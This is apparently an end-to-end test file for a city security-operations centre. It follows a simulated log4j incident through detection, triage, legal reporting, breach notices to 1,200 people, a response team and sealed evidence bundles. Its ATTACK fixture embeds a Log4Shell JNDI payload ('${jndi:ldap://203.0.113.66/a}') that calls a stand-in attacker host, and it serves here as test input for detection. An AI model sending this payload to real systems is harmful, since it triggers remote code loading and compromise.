"""One accident from its first line in a firewall's log to the mayor's desk and to the court, as the people of the city live through it.

A real `bongsu up` in a process of its own takes the lines by syslog over TCP; everybody works over HTTP with an account of the own role;
nobody reaches around the API. The machine's clock is moved where the law makes people wait (`tests.servers.other_time`).
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.servers.centre import free_port
from tests.story import City, clocks_of, refused

BEGINS = datetime(2026, 10, 12, 1, 2, tzinfo=UTC)  # Monday, 10:02 in Seoul
SUBJECTS = 1200
ATTACKER = "203.0.113.66"
SERVER = "10.20.30.40"
USUAL = (
    'date=2026-10-12 time=10:01:SS devname="fw" devid="FGT60X0000000001" tz="+0900" logid="0000000013" type="traffic" '
    'subtype="forward" vd="root" srcip=10.1.1.1 srcport=40000 dstip=198.51.100.7 dstport=443 proto=6 action="accept" sessionid=SS'
)
ATTACK = (
    '{"timestamp":"2026-10-12T10:01:SS.000000+0900","flow_id":7,"in_iface":"eth0","event_type":"alert",'
    f'"src_ip":"{ATTACKER}","src_port":51514,"dest_ip":"{SERVER}","dest_port":8080,"proto":"TCP",'
    '"alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":1,"signature":"Apache log4j RCE Attempt (CVE-2021-44228)",'
    '"category":"Attempted Administrator Privilege Gain","severity":1},"http":{"hostname":"members.gangnam.example",'
    f'"url":"/?x=${{jndi:ldap://{ATTACKER}/a}}",'
    '"http_method":"GET","protocol":"HTTP/1.1","status":200,"length":12},"app_proto":"http"}'
)
PEOPLE = {
    "mayor": ("mayors_office", ""),
    "analyst": ("analyst", ""),
    "lead": ("soc_lead", ""),
    "officer": ("agency_officer", "gangnam-gu"),
    "elsewhere": ("agency_officer", "jongno-gu"),
    "privacy": ("privacy_officer", "gangnam-gu"),
    "auditor": ("auditor", ""),
}
FACTS: dict[str, Any] = {
    "items": ["이름", "휴대전화 번호"],
    "occurred_from": "2026-10-12T10:01:00+09:00",
    "circumstances": {"ko": "회원 조회 서버가 외부에서 열람됨", "en": "The member search server was read from outside"},
    "subject_measures": {"ko": "비밀번호를 바꾸십시오", "en": "Change your password"},
    "countermeasures": {"ko": "서버를 분리하고 상담 창구를 열었음", "en": "The server was isolated and a help desk opened"},
    "department": {"ko": "정보통신과", "en": "IT Division"},
    "contact": "02-0000-0000",
    "measures_taken": {"ko": "외부 접속 차단", "en": "Access from outside was shut"},
}


@pytest.fixture
def syslog() -> int:
    """The port lines are sent to."""
    return free_port()


@pytest.fixture
def city(tmp_path: Path, syslog: int) -> Iterator[City]:
    """A centre with two agencies on the morning of BEGINS."""
    settings: dict[str, Any] = {
        "intake": {"listeners": [{"name": "tcp", "kind": "tcp", "host": "127.0.0.1", "port": syslog}]},
        "agencies": [
            {
                "id": "gangnam-gu",
                "name_ko": "강남구",
                "name_en": "Gangnam District",
                "sources": [{"name": "fw", "addresses": ["127.0.0.1/32"], "timezone": "Asia/Seoul"}],
            },
            {"id": "jongno-gu", "name_ko": "종로구", "name_en": "Jongno District"},
        ],
        "respond": {"reports": {"target_hours": 3}},
    }
    made = City(tmp_path, settings, BEGINS, PEOPLE)
    try:
        made.start()
        yield made
    finally:
        made.close()


@pytest.mark.timeout(900)
def test_from_the_attack_to_the_mayors_desk(city: City, syslog: int, tmp_path: Path) -> None:
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed (Debian package poppler-utils)")
    lines = send_an_attack_among_usual_lines(city, syslog)
    incident = the_centre_finds_and_confirms_it(city, lines)
    report = the_agency_reports_and_gets_a_receipt(city, incident)
    the_mayor_asks_for_measures(city, incident)
    personal = a_leak_of_1200_people_is_verified(city, incident)
    people_are_told_it_is_posted_and_reported(city, personal)
    a_national_warning_is_recorded_and_acknowledged(city)
    the_mayor_alone_forms_a_team(city, incident)
    it_cannot_be_closed_while_anything_is_open(city, incident)
    seven_days_later_the_posting_has_been_served(city, personal)
    the_closing_report_is_accepted(city, report)
    it_is_closed_with_its_evidence_sealed(city, incident)
    the_mayor_reads_the_issue_on_paper(city, incident, report, tmp_path)
    the_evidence_proves_itself(city, incident, lines, tmp_path)
    the_trail_tells_everything_and_names_nobody(city, incident, tmp_path)


# ---- the attack ----


def send_an_attack_among_usual_lines(city: City, port: int) -> list[str]:
    """The lines of the attack; they come by syslog over TCP, framed by octet counts."""
    attack = [ATTACK.replace("SS", str(second)) for second in (20, 21, 22)]
    usual = [USUAL.replace("SS", f"{second:02}") for second in range(20)]
    lines = [*usual[:10], *attack, *usual[10:]]
    with socket.create_connection(("127.0.0.1", port)) as stream:
        stream.sendall(b"".join(b"%d %s" % (len(line.encode()), line.encode()) for line in lines))
    city.centre.wait_until_handled(len(lines))
    return attack


def the_centre_finds_and_confirms_it(city: City, lines: list[str]) -> str:
    """Articles 17(2)2 and 17(2)4: detected, triaged by an analyst, confirmed by the lead; each party's time of learning stands apart."""
    number, other = what_the_rules_found(city, len(lines))
    incident = f"incidents/{number}"
    assert [one["number"] for one in city.analyst.see(f"{incident}/related")["items"]] == [other]
    city.analyst.step(f"incidents/{other}", "merge", into=number, reason="The same lines, seen by another rule")
    found = city.analyst.see(incident)
    assert (found["agency"], found["state"], found["exercise"]) == ("gangnam-gu", "new", False)
    assert (found["severity"], found["detections"]) == ("critical", 2 * len(lines))
    assert {one["raw"] for one in found["evidence"]} == set(lines)
    assert city.elsewhere.get(incident).status_code == 404
    assert city.privacy.get(incident).status_code == 404

    city.analyst.step(incident, "triage")
    assert "may not do incidents:approve" in refused(city.analyst.try_step(incident, "confirm"), 403)
    confirmed = city.lead.step(incident, "confirm")
    assert confirmed["centre_aware_at"] == confirmed["agency_told_at"]
    assert confirmed["agency_aware_at"] is None
    assert city.officer.step(incident, "acknowledge")["agency_aware_at"] > confirmed["agency_told_at"]
    city.analyst.step(incident, "mark", personal_data=True, reason="The member search was read")
    assert city.privacy.see(incident)["personal_data"] is True
    return number


def what_the_rules_found(city: City, findings: int, seconds: float = 120.0) -> list[str]:
    """The numbers of the two incidents the attack becomes, by two rules; the graver one first."""
    deadline = time.monotonic() + seconds
    seen: list[dict[str, Any]] = []
    while time.monotonic() < deadline:
        seen = city.analyst.see("incidents", q=ATTACKER)["items"]
        if [one["evidence_kept"] for one in seen] == [findings, findings]:
            return [one["number"] for one in sorted(seen, key=lambda one: one["severity"] != "critical")]
        time.sleep(0.2)
    raise AssertionError(f"not two incidents of {ATTACKER} with {findings} findings each, but {seen}")


# ---- article 19 ----


def the_agency_reports_and_gets_a_receipt(city: City, incident: str) -> str:
    """Article 19(3): the officer's report is filled from the incident; learning starts the centre's target, receiving gives a number."""
    drafted = city.officer.make("reports", incident=incident)
    report = f"reports/{drafted['number']}"
    assert drafted["content"]["system"] == SERVER
    assert drafted["content"]["occurred_at"] == "2026-10-12T01:01:20Z"
    assert incident in drafted["content"]["summary"]
    assert city.lead.get(report).status_code == 404, "a draft is its agency's own"
    learned = city.officer.see(f"incidents/{incident}")["agency_aware_at"]
    assert (drafted["content"]["learned_at"], drafted["content"]["personal_data"]) == (learned, "yes")

    submitted = city.officer.step(report, "submit", contact="02-0000-0001")
    assert (submitted["state"], submitted["versions"], submitted["late_seconds"]) == ("submitted", 1, 0)
    clock = clocks_of(city.officer.see(report))["report"]
    assert (clock["basis"], clock["started_at"], clock["stopped_at"]) == ("target", learned, submitted["submitted_at"])
    assert "not a time limit of the law" in clock["source"]
    assert city.privacy.see(report)["content"]["personal_data"] == "yes"
    assert city.mayor.see("feed/reports")["items"] == [], "the mayor reads what was received"

    received = city.lead.step(report, "receive")
    assert received["receipt"] == "RCP-2026-000001"
    (entry,) = city.mayor.see("feed/reports")["items"]
    assert (entry["report"], entry["receipt"], entry["incident"]) == (drafted["number"], "RCP-2026-000001", incident)
    assert entry["version_sha256"] == city.mayor.see(report)["submitted"][0]["sha256"]
    return str(drafted["number"])


def the_mayor_asks_for_measures(city: City, incident: str) -> None:
    """Article 19(2): comply unless there is a justifiable cause; the time for the answer is the mayor's own."""
    due = (city.clock.now() + timedelta(hours=6)).isoformat()
    asked = city.mayor.make(
        "requests",
        article="19(2)",
        agency="gangnam-gu",
        about=f"incident/{incident}",
        title="Keep the member service running",
        purpose="To minimise what the accident does to citizens",
        items=["Move the service to the standby server", "Tell when it is done"],
        due_at=due,
    )
    request = f"requests/{asked['number']}"
    assert city.officer.get(request).status_code == 404, "nobody is told before it is issued"
    assert "unless there is a justifiable cause" in asked["wording_en"]
    assert "정당한 사유가 없으면" in asked["wording_ko"]
    assert "has not delegated" in refused(city.lead.try_step(request, "issue"), 403)
    city.mayor.step(request, "issue")
    clock = clocks_of(city.officer.see(request))["answer"]
    assert (clock["basis"], clock["stopped_at"]) == ("set", None)
    assert datetime.fromisoformat(clock["due_at"]) == datetime.fromisoformat(due)

    city.officer.step(request, "receive")
    city.officer.step(request, "comply", items=["Moved at 10:30", "Done"])
    assert clocks_of(city.officer.see(request))["answer"]["stopped_at"] is not None
    for action in ("accept", "verify", "close"):
        city.mayor.step(request, action)
    assert city.mayor.see(request)["state"] == "closed"


def a_leak_of_1200_people_is_verified(city: City, incident: str) -> str:
    """Article 19(4), PIO 7: the controller's officer tells the facts, the centre helps, the privacy officer alone determines."""
    opened = city.officer.make("personal-cases", about=incident, title="Member list read from outside")
    case = f"personal-cases/{opened['number']}"
    city.officer.step(case, "describe", facts=FACTS)
    city.analyst.step(case, "add_findings", findings={"systems": [SERVER], "outside_access": True, "estimated_subjects": 1000})
    span = {"since": (BEGINS - timedelta(hours=1)).isoformat(), "until": BEGINS.isoformat()}
    city.analyst.step(case, "give_evidence", **span, purpose="To find whose records were read")
    (given,) = city.privacy.see(case)["support"]
    package = city.privacy.get(f"{case}/support/{given['id']}/package")
    assert hashlib.sha256(package.content).hexdigest() == given["package_sha256"] != ""
    determined = {"subjects": SUBJECTS, "count_final": True, "sensitive": False, "unique_identifiers": False, "outside_access": True}
    assert city.lead.try_step(case, "verify", determination=determined).status_code == 403

    verified = city.privacy.step(case, "verify", determination=determined)
    assert (verified["state"], verified["pack"], verified["missing"]) == ("verified", "2026-09-11", [])
    aware = datetime.fromisoformat(verified["aware_at"])
    tracks = {one["track"]: one for one in city.privacy.see(case)["tracks"]}
    states = {name: one["state"] for name, one in tracks.items()}
    assert states == {"containment": "open", "notice": "due", "posting": "required", "report": "due"}
    assert tracks["posting"]["rules"] == ["posting-ordinance"]
    assert tracks["report"]["rules"] == ["report-ordinance", "report-72h"]
    waits = {"notice": "first_notice", "posting": "post", "report": "first_report"}
    clocks = {name: clocks_of(tracks[name])[clock] for name, clock in waits.items()}
    assert {one["basis"] for one in clocks.values()} == {"pack"}
    due = {name: one["due_at"] and datetime.fromisoformat(one["due_at"]) for name, one in clocks.items()}
    assert due == {"notice": aware + timedelta(hours=72), "posting": None, "report": aware + timedelta(hours=72)}
    assert not {*city.mayor.see(case)} & {"title", "facts", "findings", "determination", "letters"}, "the mayor is shown its status"
    return str(opened["number"])


def people_are_told_it_is_posted_and_reported(city: City, number: str) -> None:
    """PIO 7(1): the five items; 7(3), DEC 39 and 40: posted for seven days and reported, because 1,200 people are 1,000 or more."""
    case = f"personal-cases/{number}"
    for letter in ("first_notice", "posting"):
        city.privacy.step(case, "write_letter", letter=letter)
    notice = city.privacy.see(f"{case}/letters/first_notice/1")
    for text, items in ((notice["text_ko"], "ko"), (notice["text_en"], "en")):
        for place, words in enumerate(five_items(items), 1):
            assert f"{place}. " in text
            assert words in text
    assert notice["missing"] == []
    assert "Gangnam District" in notice["text_en"]
    assert "강남구" in notice["text_ko"]

    city.privacy.step(f"{case}/tracks/notice", "send_first", letter=1, method="text_message", recipients=SUBJECTS)
    city.privacy.step(f"{case}/tracks/notice", "complete")
    posted = city.privacy.step(f"{case}/tracks/posting", "post", letter=1, address="https://gangnam.example/notice/1")
    assert posted["given"]["until"] == "2026-10-19T15:00:00+00:00", "seven whole days of Seoul after the day of posting"
    assert "stays posted until" in refused(city.privacy.try_step(f"{case}/tracks/posting", "serve"), 422)

    city.privacy.step(case, "write_letter", letter="report")
    written = city.privacy.see(f"{case}/letters/report/1")
    assert "1,200명" in written["text_ko"]
    assert "1,200 notices sent" in written["text_en"]
    alone = city.privacy.try_step(f"{case}/tracks/report", "file", letter=1, to=["pipc"])
    assert "kisa" in refused(alone, 422), "the ordinance's recipients are not the decree's"
    city.privacy.step(f"{case}/tracks/report", "file", letter=1, to=["kisa"])
    city.privacy.step(f"{case}/tracks/report", "accept", receipt="KISA-1")
    city.officer.step(f"{case}/tracks/containment", "finish")
    tracks = {one["track"]: one for one in city.privacy.see(case)["tracks"]}
    assert all(clocks_of(tracks[name])[clock]["stopped_at"] for name, clock in (("notice", "first_notice"), ("report", "first_report")))


def five_items(language: str) -> list[str]:
    """What a notice must tell (PIO 7(1)1 to 5)."""
    words = [FACTS[name][language] for name in ("circumstances", "subject_measures", "countermeasures", "department")]
    return [FACTS["items"][0], *words]


# ---- articles 18 and 20 ----


def a_national_warning_is_recorded_and_acknowledged(city: City) -> None:
    """Article 18: written down from the national notice by a person, propagated, acknowledged and carried out by each agency."""
    assert city.analyst.see("warnings/effect")["level"] == "normal", "no incident raises a level"
    notice: dict[str, Any] = {
        "issuer": "National Cyber Security Center",
        "reference": "2026-31",
        "level": "attention",
        "title": "Attacks on log4j",
        "starts_at": city.clock.now().isoformat(),
    }
    assert city.mayor.post("warnings", notice).status_code == 403
    recorded = city.lead.make("warnings", **notice)
    city.lead.step(f"warnings/{recorded['number']}", "propagate")
    assert city.mayor.see("warnings/effect")["level"] == "attention"

    for person in (city.officer, city.elsewhere):
        (mine,) = person.see("warning-notices", warning=recorded["number"])["items"]
        own = f"warning-notices/{mine['number']}"
        assert person.step(own, "acknowledge")["acknowledged_at"]
        assert "not everything is done" in refused(person.try_step(own, "complete"), 422)
        for measure in mine["measures"]:
            person.step(own, "prove", measure=measure["id"], proof="Done and written down in the duty book")
        assert person.step(own, "complete")["state"] == "measures_done"
    states = [one["state"] for one in city.lead.see(f"warnings/{recorded['number']}")["notices"]]
    assert states == ["measures_done", "measures_done"]


def the_mayor_alone_forms_a_team(city: City, incident: str) -> None:
    """Article 20: the agency asks, the mayor forms, people are called and acknowledge, the mayor stands it down, its work is reviewed."""
    asked = city.officer.make("teams/requests", incident=incident, basis="The member service of the district is down")
    team = f"teams/{asked['number']}"
    assert ("team.request", team.replace("teams", "team")) in [(one["kind"], one["object"]) for one in city.mayor.see("news")["items"]]
    assert city.lead.try_step(team, "form", order="Restore it").status_code == 403
    assert city.officer.try_step(team, "form", order="Restore it").status_code == 403
    formed = city.mayor.step(team, "form", order="Restore the member service")
    assert (formed["state"], formed["severity"]) == ("formed", city.mayor.see(f"incidents/{incident}")["severity"])

    people = [
        {"role": "leader", "name": "Kim", "agency": "jongno-gu", "account": "elsewhere"},
        {"role": "analyst", "name": "Lee", "account": "analyst"},
        {"role": "analyst", "name": "Park"},
        {"role": "system_officer", "name": "Choi", "agency": "gangnam-gu", "account": "officer"},
        {"role": "communication", "name": "Jung", "agency": "jongno-gu"},
    ]
    city.lead.step(team, "nominate", people=people)
    city.lead.step(team, "call_out")
    assert "not everybody has acknowledged" in refused(city.lead.try_step(team, "activate"), 422)
    for member in city.lead.see(team)["members"]:
        answering = getattr(city, member["account"] or "lead")
        assert answering.step(f"team-members/{member['number']}", "acknowledge")["answered_at"]
    active = city.lead.step(team, "activate")
    assert city.lead.see(team)["missing"] == []
    assert active["active_at"]
    city.lead.step(team, "order", text="Rebuild the server from the backup of Sunday")
    stood_down = city.mayor.step(team, "stand_down", reason="The service runs again")
    assert stood_down["stood_down_at"] > active["active_at"]
    city.lead.step(team, "review", findings="The backup was a day old")
    assert [one["kind"] for one in city.mayor.see(f"{team}/log")["items"]][:2] == ["order", "order"]


# ---- the end ----


def it_cannot_be_closed_while_anything_is_open(city: City, number: str) -> None:
    incident = f"incidents/{number}"
    for action in ("contain", "eradicate", "recover"):
        city.analyst.step(incident, action)
    assert "assess it first" in refused(city.lead.try_step(incident, "close", reason="It is over"), 422)
    city.analyst.step(incident, "assess", cause="An unpatched log4j", impact="The member list was read")
    why = refused(city.lead.try_step(incident, "close", reason="It is over"), 409)
    assert "RPT-2026-000001" in why
    assert "PIC-2026-000001" in why


def seven_days_later_the_posting_has_been_served(city: City, number: str) -> None:
    """PIO 7(3): seven days at least. Only then can the case be closed."""
    case = f"personal-cases/{number}"
    city.wait(days=6)
    assert "stays posted until" in refused(city.privacy.try_step(f"{case}/tracks/posting", "serve"), 422)
    assert "posting is posted" in refused(city.privacy.try_step(case, "close"), 422)
    city.wait(days=2)
    city.privacy.step(f"{case}/tracks/posting", "serve")
    assert city.privacy.step(case, "close")["state"] == "closed"
    assert city.mayor.see(case)["state"] == "closed"


def the_closing_report_is_accepted(city: City, number: str) -> None:
    report = f"reports/{number}"
    assert "needs" in refused(city.officer.try_step(report, "submit_closing"), 422)
    city.officer.step(report, "submit_closing", cause="An unpatched log4j", impact="1,200 people's data", actions="Patched and rebuilt")
    city.lead.step(report, "accept")
    city.lead.step(report, "close")
    done = city.mayor.see(report)
    assert [one["kind"] for one in done["submitted"]] == ["first", "closing"]
    assert all(one["stopped_at"] for one in done["progress"]["clocks"])


def it_is_closed_with_its_evidence_sealed(city: City, number: str) -> None:
    closed = city.lead.step(f"incidents/{number}", "close", reason="Restored, told and reported")
    assert (closed["state"], len(closed["seal"])) == ("closed", 64)
    assert city.auditor.see(f"incidents/{number}")["seal_holds"] is True


def the_mayor_reads_the_issue_on_paper(city: City, incident: str, report: str, folder: Path) -> None:
    """The day's issue as it was, told that it has been restated since; the month's holds both versions; always the same bytes."""
    day = pdf_of(city, "2026-10-12", "ko")
    assert "RCP-2026-000001" in text_of(day)
    (issued,) = city.mayor.see("feed/issues")["items"]
    assert [(one["report"], one["version"]) for one in issued["restated"]] == [(report, 2)]
    assert "has not ended" in refused(city.mayor.get("feed/issues/2026-10", format="pdf"), 409)

    city.wait(days=14)
    papers = {language: pdf_of(city, "2026-10", language) for language in ("ko", "en")}
    texts = {language: text_of(paper) for language, paper in papers.items()}
    for text in texts.values():
        assert incident in text
        assert report in text
        assert "Patched and rebuilt" in text
    assert "강남구" in texts["ko"]
    assert "Gangnam District" in texts["en"]
    assert {language: pdf_of(city, "2026-10", language) for language in papers} == papers
    assert pdf_of(city, "2026-10-12", "ko") == day


def pdf_of(city: City, period: str, language: str) -> bytes:
    answer = city.mayor.get(f"feed/issues/{period}", format="pdf", language=language)
    assert answer.status_code == 200, answer.text
    assert answer.headers["ETag"] == f'"{hashlib.sha256(answer.content).hexdigest()}"'
    return answer.content


def text_of(pdf: bytes) -> str:
    return subprocess.run(["pdftotext", "-layout", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()


def the_evidence_proves_itself(city: City, incident: str, lines: list[str], folder: Path) -> None:
    """A bundle that a court verifies with the public key alone, on a machine without the centre."""
    taken = city.lead.post(f"incidents/{incident}/evidence-bundle", {"reason": "Asked for by the police"})
    assert taken.status_code == 200, taken.text
    file = folder / "bundle.zip"
    file.write_bytes(taken.content)
    with zipfile.ZipFile(file) as bundle:
        held = bundle.read("evidence.jsonl").decode()
    assert all(hashlib.sha256(line.encode()).hexdigest() in held for line in lines)
    key = json.loads(city.centre.command("audit", "key", "--json"))["key"]

    whole = offline("evidence", "verify", str(file), "--key", key, folder=folder)
    assert (whole.returncode, f"whole: {incident}, {2 * len(lines)} lines" in whole.stdout) == (0, True), whole.stdout + whole.stderr
    forged = folder / "forged.zip"
    forged.write_bytes(with_another_address(taken.content))
    found = offline("evidence", "verify", str(forged), "--key", key, folder=folder)
    assert (found.returncode, "BROKEN" in found.stdout) == (1, True)


def with_another_address(bundle: bytes) -> bytes:
    """The bundle with one address of its evidence changed."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(bundle)) as old, zipfile.ZipFile(made, "w") as new:
        for info in old.infolist():
            content = old.read(info)
            if info.filename == "evidence.jsonl":
                assert ATTACKER.encode() in content
                content = content.replace(ATTACKER.encode(), b"203.0.113.67", 1)
            new.writestr(info, content)
    return made.getvalue()


def the_trail_tells_everything_and_names_nobody(city: City, incident: str, folder: Path) -> None:
    """The auditor reads who did what, verifies the chain here and from an export alone, and finds no personal data in it."""
    rows = city.auditor.see("audit", object=f"incident/{incident}", limit=500)["items"]
    done = {row["action"].removeprefix("incident.") for row in rows}
    assert {"triage", "confirm", "acknowledge", "mark", "contain", "close", "evidence.exported"} <= done
    read = city.auditor.see("audit", action="personal_case.read_package")["items"]
    assert [row["actor"] for row in read] == ["user:privacy"]
    assert city.auditor.see("audit/verify")["problem"] == ""
    assert "database: whole" in city.centre.command("audit", "verify")
    answer = city.auditor.get("audit/export")
    export = folder / "trail.jsonl"
    export.write_bytes(answer.content)
    assert offline("audit", "verify", str(export), folder=folder).returncode == 0
    for secret in ("Member list read", "02-0000-0000", FACTS["circumstances"]["ko"], "Choi"):
        assert secret not in answer.text


def offline(*words: str, folder: Path) -> subprocess.CompletedProcess[str]:
    """Another `bongsu`, in an empty place with nothing of the installation's."""
    place = folder / "elsewhere"
    place.mkdir(exist_ok=True)
    environment = {name: value for name, value in os.environ.items() if not name.startswith("BONGSU_")}
    environment |= {"BONGSU_DATA_DIR": str(place / "none"), "HOME": str(place)}
    words = (sys.executable, "-m", "runtime", *words)
    return subprocess.run(words, cwd=place, env=environment, capture_output=True, text=True, timeout=120, check=False)
